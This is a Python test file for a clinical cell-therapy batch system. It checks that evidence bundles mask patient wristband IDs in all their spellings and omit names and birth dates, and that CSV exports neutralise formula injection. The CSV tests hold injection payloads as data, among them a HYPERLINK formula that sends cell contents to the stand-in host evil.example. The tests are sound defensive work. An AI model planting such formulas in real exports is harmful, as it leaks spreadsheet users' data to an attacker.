"""Review 8, interoperability: the evidence bundle masks a patient's wristband in every spelling it was ever
scanned or registered under (a band corrected since, a tab or a no-break space inside a scan), not only the
patient's band of today; the CSV exports defuse a formula behind leading spaces or a line break, as OWASP's CSV
injection guidance asks, while numbers (negative ones included) stay numbers."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal

import pytest

from mscbatch.audit.context import use_case
from mscbatch.custody import bedside, infusions
from mscbatch.patients.models import Patient
from mscbatch.patients.queries import wristband_identity
from mscbatch.release import results
from mscbatch.release.models import ReleaseResult
from mscbatch.site import site_today
from tests.conftest import PASSWORD
from tests.integration.lot_factories import approved_adipose_donor, cryopreserved_lot
from tests.integration.patient_factories import user
from tests.integration.test_custody_support import KEY, check, prescribed_bag

CORRECTED = "WB-CORR-4711"


def _bundle_text(client, bag_id: int) -> str:  # type: ignore[no-untyped-def]
    response = client.get(f"/bags/{bag_id}/evidence.zip")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        files = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".json")]
    for body in files:
        json.loads(body)  # the mask never cuts a JSON escape in two
    return " ".join(files)


def _as_the_bedside_reads_it(text: str) -> str:
    """The bundle's text with every space gone, escaped ones too (a tab is written \\t in JSON, a no-break space
    \\u00a0 in a nested JSON value), in capitals: a band is found here whatever spelling it was scanned in."""
    text = re.sub(r"\\+(?:[tnrf]|u00[aA]0|u0020)", "", text)
    return "".join(text.split()).upper()


def _confirmed(session, ward, wristband: str) -> int:  # type: ignore[no-untyped-def]
    result = check(session, ward, wristband=wristband)
    assert result.matches, result.failures
    bedside.confirm_second_person(session, user(session, "nurse"), result.check_id, username="nurse2",
                                  password=PASSWORD, checker_password=PASSWORD, label_key=KEY)
    return result.check_id


@pytest.mark.parametrize("reader", ["qa", "admin"])
def test_the_bundle_masks_the_band_a_patient_wore_before_it_was_corrected(app, users, client_as, reader):
    """Scanned, checked and infused under the band of the day; the band is then corrected (a reprinted band, a
    clash found by migration 0017). The bundle masked only the patient's band of now: the old band stayed readable
    in the bedside check, its custody event and their audit events."""
    session = app.extensions["mscbatch.db"].new_session()
    ward = prescribed_bag(session, state="thawed")
    old = ward.wristband
    typed = old.lower().replace("-", " - ", 1)
    _confirmed(session, ward, typed)
    nurse = user(session, "nurse")
    infusion = infusions.start_infusion(session, nurse, ward.bag_id, wristband=old.lower(), bag_scan=ward.token,
                                        label_key=KEY)
    # the band typed in free text too: a reason is the nurse's words, masked nowhere by its field for QA
    infusions.end_infusion(session, nurse, infusion.id, volume_ml="12.5",
                           reason=f"Stopped early: re-read band {typed} after a chill, clinician told")
    with use_case(session, user(session, "clinician"), f"Band reprinted: {old} was smudged, now {CORRECTED}"):
        session.get(Patient, ward.patient_id).wristband_id = CORRECTED
    session.commit()
    code = session.get(Patient, ward.patient_id).code
    session.close()

    text = _bundle_text(client_as(reader), ward.bag_id)
    flat = _as_the_bedside_reads_it(text)
    for band in (old, CORRECTED):
        assert wristband_identity(band) not in flat, band
    assert "[redacted]" in text
    assert (code in text) == (reader == "qa")  # QA's bundle still names the patient by trial code


def test_the_bundle_masks_a_band_scanned_with_a_tab_or_a_no_break_space_inside(app, users, client_as):
    """The bedside reads "WB-<tab>SLE-UC-001" as the band (every space removed), the check keeps the scan as typed,
    and JSON writes the tab as \\t: the mask, looking for spaces, let it through."""
    session = app.extensions["mscbatch.db"].new_session()
    ward = prescribed_bag(session, state="thawed")
    band = ward.wristband
    _confirmed(session, ward, band.replace("-", "-\t", 1))
    assert check(session, ward, wristband=band.replace("-", "-\u00a0", 1)).matches  # checked again, not confirmed
    session.commit()
    session.close()

    flat = _as_the_bedside_reads_it(_bundle_text(client_as("qa"), ward.bag_id))
    assert wristband_identity(band) not in flat


def test_the_bundle_holds_no_patient_name_or_date_of_birth(app, users, client_as):
    """The bundle leaves the site: the patient is there by trial code only (the infusion and bedside records name
    the patient by id and code), whoever takes it."""
    session = app.extensions["mscbatch.db"].new_session()
    ward = prescribed_bag(session, state="thawed")
    _confirmed(session, ward, ward.wristband)
    nurse = user(session, "nurse")
    infusions.start_infusion(session, nurse, ward.bag_id, wristband=ward.wristband, bag_scan=ward.token, label_key=KEY)
    patient = session.get(Patient, ward.patient_id)
    code, dob = patient.code, patient.date_of_birth
    session.close()
    for reader in ("qa", "admin"):
        text = _bundle_text(client_as(reader), ward.bag_id)
        assert dob.isoformat() not in text and dob.strftime("%d/%m/%Y") not in text
        assert '"initials"' not in text and '"date_of_birth"' not in text
        if reader == "qa":
            assert code in text


# --- CSV: formula injection ---------------------------------------------------------------------------------------

HIDDEN_FORMULAS = {"analyst": " =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "instrument": "\n=1+1",
                   "reagent_lot": "\r\n@SUM(A1:A9)", "method": "\u00a0 -2+3"}


def test_a_formula_behind_spaces_or_a_line_break_is_defused(app, users, client_as):
    """Spreadsheets trim a cell's leading spaces on import (LibreOffice's "Trim spaces", Excel's Text Import) and
    then evaluate what starts with = + - @; a line break before it leaves the formula alone on the cell's line. A
    result written before entry trimmed its fields (or imported) came out as a live formula."""
    session = app.extensions["mscbatch.db"].new_session()
    lot_id, _bags = cryopreserved_lot(session, approved_adipose_donor(session), count=1)
    made = results.enter_result(session, user(session, "technician"), lot_id, results.ResultEntry(
        test_id="cd105", value="98", unit="%", tested_on=site_today(), analyst="Ann Analyst"))
    result_id = made.id
    with use_case(session, user(session, "technician"), "test set-up: a result as an older version stored it"):
        row = session.get(ReleaseResult, result_id)
        for field, value in HIDDEN_FORMULAS.items():
            setattr(row, field, value)
    session.commit()
    session.close()

    response = client_as("qa").get("/exports/release-results.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert len(rows) == 1
    for field, value in HIDDEN_FORMULAS.items():
        assert rows[0][field] == "'" + value, field  # shown as typed, never run
    assert rows[0]["value"] == "98"


def test_numbers_stay_numbers_and_every_formula_start_is_defused():
    from mscbatch.interop.csv_exports import cell

    assert cell(Decimal("-150.0")) == "-150.0" and cell(-150) == -150 and cell(Decimal("-0.5")) == "-0.5"
    for text in (" =1+1", "  +1", "\t-1", "\r=1", "\n@A1", "\u00a0=1", "\u3000=1", " \t\r\n=1"):
        assert cell(text) == "'" + text, repr(text)
    for text in ("plain", "a=b", " spaced", "Ann Analyst", ""):
        assert cell(text) == text, repr(text)
